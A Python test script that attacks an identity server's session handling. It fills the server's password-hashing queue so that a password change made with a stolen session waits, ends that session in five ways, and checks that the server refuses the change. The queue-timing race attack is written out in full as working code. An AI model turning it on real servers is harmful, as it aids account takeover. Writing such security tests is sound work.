"""Changes the password with a stolen session that its owner ends while the change waits to be hashed.

usage: attack_ended_session.py BASE_URL ADMIN_URL
The server registers the schema `person` and hashes one password at a time, which takes about 50 ms.
Prints one line for each attempt and exits with 1 if one succeeded.
"""

import re
import sys
import threading
import time

from attack_client import Person, Server, Verdicts

# The number of registrations that wait in the queue before the change.
LOAD = 12


class HashQueue:
    """The queue of the only thread that hashes passwords, as reported by the server's metrics."""

    def __init__(self, server):
        self.server = server
        self.before = self._value("seconds_count")

    def wait_for(self, count, requests):
        """Waits until a number of passwords were accepted; returns `False` if the requests end first."""
        while self._accepted() < count:
            if not any(request.is_alive() for request in requests):
                return False
            time.sleep(0.005)
        return True

    def _accepted(self):
        # While passwords wait, one more is being hashed. If a hash completes between two reads, the sum is
        # too small.
        hashed, queued = self._value("seconds_count") - self.before, self._value("queue")
        return hashed + queued + (queued > 0)

    def _value(self, name):
        text = self.server.call("GET", "/metrics", admin=True).expect().text
        return int(float(re.search(rf"^latchkey_password_hash_{name} (\S+)$", text, re.MULTILINE).group(1)))


class Request(threading.Thread):
    """A request on its own thread, with its response and the time of the response."""

    def __init__(self, send):
        super().__init__(daemon=True)
        self.send, self.answer, self.ended = send, None, None
        self.start()

    def run(self):
        self.answer = self.send()
        self.ended = time.monotonic()


def fill_queue(server):
    """Sends registrations whose passwords wait to be hashed."""
    flows = [server.begin("registration") for _ in range(LOAD)]

    def register(flow):
        person = Person()
        members = {"method": "password", "password": person.password, "traits": person.traits}
        return server.submit("registration", flow, **members)

    return [Request(lambda flow=flow: register(flow)) for flow in flows]


def end_others(server, owner, session):
    server.call("DELETE", f"{server.base_path}/sessions", token=owner.token).expect()


def end_one(server, owner, session):
    path = f"{server.base_path}/sessions/{session.get('session', 'id')}"
    server.call("DELETE", path, token=owner.token).expect(204)


def log_out(server, owner, session):
    path = f"{server.base_path}/self-service/logout/api"
    server.call("DELETE", path, {"session_token": session.session_token}).expect(204)


def revoke(server, owner, session):
    server.admin("DELETE", f"/sessions/{session.get('session', 'id')}").expect(204)


def recover(server, owner, session):
    answer = server.enter_by_code("recovery", owner.email).expect()
    owner.token = answer.session_token


ENDINGS = [
    (end_others, "an end of the other sessions"),
    (end_one, "an end of this session from another one"),
    (log_out, "a logout with its token"),
    (revoke, "a revocation by the operator"),
    (recover, "a recovery of the owner"),
]


def change_while_it_ends(server, end, owner, password):
    """Ends a session while its change of the password waits.

    Returns the answer to the change; `None` if it came before the session had ended, which proves nothing.
    """
    stolen = server.log_in(owner.email, owner.password).expect()
    flow = server.begin("settings", token=stolen.session_token)
    members = {"method": "password", "password": password}
    queue = HashQueue(server)
    requests = fill_queue(server)
    is_full = queue.wait_for(LOAD, requests)
    change = Request(lambda: server.submit("settings", flow, stolen.session_token, **members))
    requests.append(change)
    # A change that waits has already been authenticated.
    is_waiting = is_full and queue.wait_for(LOAD + 1, requests)
    if is_waiting:
        end(server, owner, stolen)
    ended = time.monotonic()
    for request in requests:
        request.join()
    return change.answer if is_waiting and change.ended > ended else None


def change_password(server, end, name, verdicts):
    """One way to end a session while its change of the password waits."""
    what = f"a change of the password that {name} overtakes"
    for _ in range(5):
        owner, password = Person(), Person().password
        server.confirm(owner)
        change = change_while_it_ends(server, end, owner, password)
        if change:
            break
    else:
        sys.exit(f"the server hashes too fast for {what}")
    verdicts.judge(change.status == 401, what, change)
    answer = server.log_in(owner.email, password)
    verdicts.judge(answer.session_token is None, f"{what}: a login with the new password", answer)
    answer = server.log_in(owner.email, owner.password)
    verdicts.judge(answer.status == 200, f"{what}: a lock-out of the owner", answer)
    who = server.whoami(owner.token)
    verdicts.judge(who.status == 200, f"{what}: an end of the owner's session", who)


def main(url, admin_url):
    server, verdicts = Server(url, admin_url), Verdicts()
    for end, name in ENDINGS:
        change_password(server, end, name, verdicts)
    verdicts.finish()


if __name__ == "__main__":
    main(*sys.argv[1:])
